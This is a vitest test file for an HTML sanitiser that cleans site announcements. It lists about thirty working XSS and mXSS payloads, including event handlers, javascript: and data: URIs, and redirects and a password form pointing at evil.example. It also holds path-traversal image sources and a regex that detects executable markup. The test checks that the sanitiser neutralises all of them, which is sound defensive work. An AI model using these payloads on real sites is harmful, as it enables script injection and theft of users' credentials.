import { describe, expect, test } from 'vitest';
import { cleanHtml } from './clean-html.ts';

/** Ways in that were used against real sites. None may leave anything that runs. */
const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src=x>',
  '<form action="https://evil.example"><input name=password></form>',
  '<p style="position:fixed;inset:0;background:url(javascript:x)">x</p>',
  '<p class="toast" id="root" onclick="x()">x</p>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href="//evil.example"><p>x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<b<script>alert(1)</script>0',
  '"><img src=x onerror=alert(1)>',
];
const RUNS =
  /<(?!\/?(?:p|br|h2|h3|h4|strong|b|em|i|u|s|small|blockquote|hr|ul|ol|li|table|thead|tbody|tr|th|td|a|img)\b)\w|\son\w+\s*=|javascript:|vbscript:|data:|style=|class=|id=|evil\.example/i;

describe('HTML of an announcement [HOME-024 D-87]', () => {
  test.each(hostile)('%s does nothing', (html) => {
    // What is left as text is escaped; only tags and attributes count.
    const tags = (cleanHtml(html).match(/<[^>]*>/g) ?? []).join('');
    expect(tags).not.toMatch(RUNS);
  });

  test('words, lists, tables and harmless links stay', () => {
    const html =
      '<h2>Title</h2><p>Some <strong>words</strong><br /></p><ul><li>one</li></ul>' +
      '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><a href="/help#deposit">help</a>';
    expect(cleanHtml(html)).toBe(html);
  });

  test('a link to another site opens apart and tells it nothing', () => {
    expect(cleanHtml('<a href="https://news.example/">x</a>')).toBe(
      '<a href="https://news.example/" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
  });

  test('our own pictures stay, with their size', () => {
    expect(
      cleanHtml('<img src="/res/cover/banner/sea.svg?w=480&h=240" alt="sea" width="480" height="240">'),
    ).toBe(
      '<img src="/res/cover/banner/sea.svg?w=480&amp;h=240" alt="sea" loading="lazy" width="480" height="240" />',
    );
  });

  test.each([
    '/account/avatar.png',
    'res/cover/banner/sea.svg',
    '/resources/sea.svg',
    '//res/sea.svg',
    '/\\evil.example/res/sea.svg',
    'https://evil.example/res/sea.svg',
    '/wps/feedback?image=/res/',
    'data:image/svg+xml,/res/',
    '/res/../wps/feedback',
    '/res/a/%2e%2e/.%2E/wps/feedback',
    '/res/..\\wps\\feedback',
    '/res/\u0001sea.svg',
  ])('a picture at %s is not one of ours and goes', (src) => {
    expect(cleanHtml(`<p>x<img src="${src}" alt="y"></p>`)).toBe('<p>x</p>');
  });

  test('a picture keeps a size in numbers only', () => {
    expect(cleanHtml('<img src="/res/a.svg" width="100%" height="12345">')).toBe(
      '<img src="/res/a.svg" alt="" loading="lazy" />',
    );
  });
});
